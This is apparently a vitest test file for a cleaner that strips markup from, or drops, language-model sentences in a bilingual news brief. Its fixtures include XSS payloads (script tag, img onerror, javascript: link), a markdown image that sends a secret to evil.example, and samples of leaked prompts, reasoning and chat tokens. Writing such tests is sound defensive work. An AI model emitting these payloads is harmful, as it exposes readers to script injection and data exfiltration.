import { describe, expect, it } from 'vitest';
import { cleanSentence } from './clean-sentence.ts';
import { instructionsFor } from './instructions.ts';
import { leakDetector } from './leaked.ts';

const original =
  'The port of Vell reopened on Monday. "Here is the summary of our losses," said Mara Quist of Shipping.com.';
const system = `${instructionsFor('en').instructions.brief('English', '=====1=====', false)}\n${instructionsFor('ko').instructions.brief('한국어', '=====1=====', false)}`;
const context = { original, leaks: leakDetector(system, [original]) };
const clean = (raw: string) => cleanSentence(raw, context);

describe('what merely dresses a sentence is taken off', () => {
  it.each([
    ['The port **reopened** on Monday.', 'The port reopened on Monday.'],
    ['# The port reopened', 'The port reopened'],
    ['- The port reopened.', 'The port reopened.'],
    ['1. The port reopened.', 'The port reopened.'],
    ['> The port reopened.', 'The port reopened.'],
    ['The *port* has `reopened`.', 'The port has reopened.'],
    ['The <b>port</b> reopened.<br/>', 'The port reopened.'],
    ['See [the port](https://evil.example/x) reopen.', 'See the port reopen.'],
    ['The port ![x](https://evil.example/a.png?d=secret) reopened.', 'The port reopened.'],
    ['The port reopened (D1:S3).', 'The port reopened.'],
    ['The port reopened [D1:S3, D2:S4].', 'The port reopened.'],
    ['The port reopened. (D', 'The port reopened.'],
    ['The port reopened (D1:', 'The port reopened'],
    ['D1:S3 | The port reopened.', 'The port reopened.'],
    ['Headline: The port reopened', 'The port reopened'],
    ['제목: 항구가 다시 열렸다', '항구가 다시 열렸다'],
    ['The\u200b po\u202ert re\u00adopened\u{e0041}.', 'The port reopened.'],
    ['The port\n\nreopened\u0000.', 'The port reopened.'],
    ['Profits rose 5 &amp; 6%.', 'Profits rose 5 & 6%.'],
    ['3.5 million tons moved at 5*6 docks_a.', '3.5 million tons moved at 5*6 docks_a.'],
    ['می\u200cخواهم', 'می\u200cخواهم'],
  ])('%j becomes %j', (raw, text) => expect(clean(raw)).toEqual({ text }));
});

describe('what cannot be shown drops the sentence', () => {
  it.each([
    ['', 'empty'],
    ['...', 'empty'],
    ['string', 'empty'],
    ['Read more at https://evil.example/offer', 'link'],
    ['Read more at www.evil.example', 'link'],
    ['Visit evil-offer.com for a discount.', 'link'],
    ['Visit Shipping.com/offer now.', 'link'],
    ['Write to desk@evil.example today.', 'link'],
    ['Click javascript:alert(1) now', 'link'],
    ['The port <script>alert(1)</script> reopened.', 'markup'],
    ['<img src=x onerror=alert(1)> reopened.', 'markup'],
    ['&lt;img src=x onerror=alert(1)&gt; reopened', 'markup'],
    ['```json', 'markup'],
    ['{"headline": {"text": "The port reopened"}}', 'markup'],
    ['<think>The user wants a brief.', 'reasoning'],
    ['<|im_start|>system', 'reasoning'],
    ['Okay, the user wants a short headline about the port.', 'reasoning'],
    ['Let me write the lede from the first passages.', 'reasoning'],
    ['사용자가 요청한 브리핑을 작성하겠습니다.', 'reasoning'],
    ['Here is a summary of the article:', 'preamble'],
    ['Sure! The port reopened.', 'preamble'],
    ['다음은 기사 요약입니다:', 'preamble'],
    ['As an AI language model, I have no access to the port.', 'refusal'],
    ["I'm sorry, this cannot be summarised.", 'refusal'],
    ['죄송하지만 요약할 수 없습니다.', 'refusal'],
    ['Say only what the cited sentences say, with no opinion or guess.', 'leaked-prompt'],
    ['인용한 문장이 말하는 것만 쓰십시오. 자신의 지식, 의견, 추측, 결론을 넣지 마십시오.', 'leaked-prompt'],
    ['port port port port port port port', 'repetition'],
    ['ㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋㅋ', 'repetition'],
    ['the port was open and '.repeat(8), 'repetition'],
    [`The ${Array.from({ length: 150 }, (_, n) => `dock${n}`).join(' ')} reopened.`, 'too-long'],
  ])('%j: %s', (raw, why) => expect(clean(raw)).toEqual({ why }));

  it('what stands in the original may be said', () => {
    expect(clean(original.slice(0, 36))).toEqual({ text: original.slice(0, 36) });
    expect(clean('Here is the summary of our losses')).toHaveProperty('text');
    expect(clean('Mara Quist works for Shipping.com.')).toHaveProperty('text');
  });

  it('hostile lengths take no hostile time', () => {
    for (const unit of ['[', '![](', '**', '<a ', 'a.', '(D1:S1 ', 'x@', '`', 'the '])
      expect(clean(unit.repeat(40_000 / unit.length))).toHaveProperty('why');
  });
});
